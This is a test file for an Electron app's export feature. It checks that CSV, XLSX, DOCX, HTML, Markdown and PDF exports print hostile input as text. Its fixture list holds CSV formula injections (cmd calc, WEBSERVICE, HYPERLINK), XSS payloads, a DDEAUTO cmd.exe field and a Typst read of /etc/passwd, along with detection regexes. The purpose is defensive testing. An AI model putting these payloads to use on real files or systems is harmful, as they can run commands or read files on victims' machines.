/** Titles and cells made by an enemy, in every format: they are printed as the text they are. */
import { join } from 'node:path';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { renderCard } from '../../../electron/export/export-card.ts';
import { renderTable } from '../../../electron/export/export-table.ts';
import { escapeMarkdown } from '../../../electron/export/formats/escape-markup.ts';
import { tableCsv } from '../../../electron/export/formats/table-text.ts';
import type { PrintTable } from '../../../electron/export/print/print-table.ts';
import { createPdfRenderer } from '../../../electron/export/typst/pdf-renderer.ts';
import { type ExportFormat, exportFormats, type Table } from '../../../shared/contract/exports.ts';
import { readPdf } from './read-pdf.ts';
import { sampleCard, template } from './sample-card.ts';
import { unzip } from './unzip.ts';

const renderer = createPdfRenderer({ resourcesDirectory: join(import.meta.dirname, '..', '..', '..', 'resources') });
const hostile = [
  '=1+1',
  '+1-cmd',
  '-1+cmd',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  ' =1',
  '＝1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://eksempel.no/?x="&A1;"Trykk her")',
  'Plaster;=1+1',
  'Plaster,=1+1',
  'Plaster, @SUM(A1)',
  'Plaster\n=1+1',
  'Plaster\t=1+1',
  "x;-2 +cmd|' /C calc'!A0",
  "x,-2 +cmd|' /C calc'!A0",
  "x\t-2 +cmd|' /C calc'!A0",
  "x\n-2\t+cmd|' /C calc'!A0",
  'a,-1 *WEBSERVICE(A1)',
  'a;-1) *WEBSERVICE(A1)',
  'a;-1% *WEBSERVICE(A1)',
  'a, -1–WEBSERVICE(A1)',
  'a;-1,2*WEBSERVICE(A1)',
  'a;-1,2 *WEBSERVICE(A1)',
  '";=1+1;"',
  '",=1+1,"',
  'Plaster;"=WEBSERVICE(A1)&"";',
  'Plaster,"=WEBSERVICE(A1)&"",',
  'Plaster\t"=WEBSERVICE(A1)&""\t',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  '[lenke](javascript:alert(1))',
  '![bilde](http://eksempel.no/x.png)',
  '# Overskrift',
  '---',
  '===',
  '#read("/etc/passwd")',
  '#import "x.typ": *',
  '$ integral $ *fet* _kursiv_ `kode` <merke> @ref',
  '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" }',
];
const table = (language: 'nb' | 'en'): Table => ({
  kind: 'references',
  title: '=1+1 <script>alert(1)</script> ../../x',
  language,
  columns: ['Nr.', '=1+1', '<b>Tittel</b>'],
  rows: hostile.map((text, index) => [String(index), text, `Før ${text}`]),
  notes: hostile,
});
const card = sampleCard({ title: '=1+1 <script>alert(1)</script>' });
card.fields.summary = { ...card.fields.summary!, value: hostile.join('\n') };
card.fields.pointsMethod = { ...card.fields.pointsMethod!, value: hostile };

const files = async (format: ExportFormat) => [
  await renderTable(table('nb'), format, { renderer, date: '2026-01-15' }),
  await renderTable(table('en'), format, { renderer, date: '2026-01-15' }),
  await renderCard(card, template, format, { renderer, sourceTitle: () => '=1+1 <script>alert(1)</script>' }),
];
const texts = async (format: ExportFormat) => (await files(format)).map(({ bytes }) => new TextDecoder().decode(bytes));

/** What a spreadsheet makes of a file whose cells end with `delimiter`: quotes count only where a cell begins with one. */
function cellsOf(text: string, delimiter: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const character = text[at]!;
    if (isQuoted && character === '"' && text[at + 1] === '"') {
      cell += '"';
      at += 1;
    } else if (isQuoted && character === '"') isQuoted = false;
    else if (isQuoted) cell += character;
    else if (character === '"' && cell === '') isQuoted = true;
    else if (character === delimiter || character === '\n' || character === '\r') {
      cells.push(cell);
      cell = '';
    } else cell += character;
  }
  return [...cells, cell];
}

const readers = [';', ',', '\t', '|'];
/** A number that a quotation mark follows is no formula. */
const isRun = (cell: string) => /^\s*(?:[=@＝＠]|[+\-＋－](?!\s*\d[\d.,;\s)%]*(?:"|$)))/.test(cell);

test.each(readers)('CSV, read with cells that end with %j, runs nothing', async (delimiter) => {
  for (const text of await texts('csv')) expect(cellsOf(text, delimiter).filter(isRun)).toEqual([]);
});

/** Two cells that are harmless alone: another reader ends the first one early, or not at all. */
test.each(readers)('no two cells join to a formula for a reader of %j', (delimiter) => {
  const piece = fc.constantFrom(...';,\t|\n"=+-@12(% ', 'WEBSERVICE(A1)', "'", '""', ';-1', ',-1', '|=', '\r\n');
  const cell = fc.array(piece, { maxLength: 6 }).map((pieces) => pieces.join(''));
  fc.assert(
    fc.property(fc.array(cell, { minLength: 2, maxLength: 3 }), fc.constantFrom('nb', 'en'), (cells, language) => {
      const written = tableCsv({
        ...table('en'),
        language,
        columns: cells.map(() => 'x'),
        rows: [cells],
      } as PrintTable);
      return !cellsOf(written.slice(1), delimiter).some(isRun);
    }),
    { numRuns: 3000, examples: [[['a;-1', '2*WEBSERVICE(A1)'], 'en']] },
  );
});

test('numbers with a sign stay as they are', async () => {
  const rows = [['1', 'MD -0,5 (-1,2; -0,1)', 'fra -2, -3']];
  const { bytes } = await renderTable({ ...table('nb'), rows }, 'csv', { renderer, date: '2026-01-15' });
  expect(new TextDecoder().decode(bytes)).toContain('"MD -0,5 (-1,2; -0,1)";"fra -2, -3"');
});

test('XLSX and DOCX hold no formula, field, link or code', async () => {
  for (const { bytes } of [...(await files('xlsx')), ...(await files('docx'))]) {
    const parts = await unzip(bytes);
    for (const [name, part] of parts) {
      expect(name).not.toMatch(/vbaProject|externalLink|embeddings|activeX/i);
      expect(part, name).not.toMatch(/<f[ >]|<script|onerror=alert\(1\)>/);
      if (!/^word\/(?:footer|header)/.test(name)) expect(part, name).not.toMatch(/w:instrText|w:fldSimple|w:hyperlink/);
      expect(part, name).not.toMatch(/TargetMode="External"/);
    }
  }
});

test('HTML holds no element and no link but its own', async () => {
  for (const html of await texts('html')) {
    const names = [...html.matchAll(/<\/?([a-z][a-z0-9]*)/gi)].map((match) => match[1]!.toLowerCase());
    const own =
      'html head meta title style body main h1 h2 h3 p table thead tbody tr th td br ul ol li sup strong em span div';
    expect(names.filter((name) => !own.split(' ').includes(name))).toEqual([]);
    expect(html.replace(/<[^>]*>/g, '')).not.toMatch(/[<>]/);
    expect(html).not.toMatch(/<[^>]*\s(?:on\w+|href|src)\s*=/i);
  }
});

test('Markdown makes no element, link, picture or heading of what a person wrote', async () => {
  for (const markdown of await texts('md')) {
    expect(markdown.replace(/<br>|<\/?sup>/g, '')).not.toMatch(/(?<!\\)<[a-z/]/i);
    expect(markdown).not.toMatch(/(?<!\\)\]\(/);
    expect(markdown).not.toMatch(/^# Overskrift|^---\s*$|^===\s*$/m);
  }
});

test.each([
  ['---', '\\---'],
  ['===', '\\==='],
  ['- punkt', '\\- punkt'],
  ['1. punkt', '1\\. punkt'],
  ['## x', '\\## x'],
  ['&lt;b&gt;', '\\&lt;b\\&gt;'],
  ['a - b', 'a - b'],
])('“%s” in Markdown is “%s”', (text, expected) => expect(escapeMarkdown(text)).toBe(expected));

test('PDF prints what looks like its own language as text', async () => {
  const rows = hostile.filter((text) => !/[\t\r＝]/.test(text)).map((text) => [text]);
  const { bytes } = await renderTable({ ...table('nb'), columns: ['Tekst'], rows, notes: [] }, 'pdf', {
    renderer,
    date: '2026-01-15',
  });
  // Long words may break anywhere, at a blank without width.
  const printed = (await readPdf(bytes)).pages.join('\n').replace(/[\s\u200b]+/g, '');
  for (const text of ['#read("/etc/passwd")', '=HYPERLINK', '<script>alert(1)</script>', '$integral$*fet*']) {
    expect(printed).toContain(text);
  }
  expect(printed).not.toContain('root:');
  expect(Buffer.from(bytes).toString('latin1')).not.toMatch(/\/JavaScript|\/Launch|\/URI\s*\(/);
});

test('no format names its file out of its folder', async () => {
  for (const format of exportFormats.filter((name) => name !== 'pdf')) {
    for (const { fileName } of await files(format)) expect(fileName).not.toMatch(/[/\\<>:"|?*]|^\.|\.\.$/);
  }
});
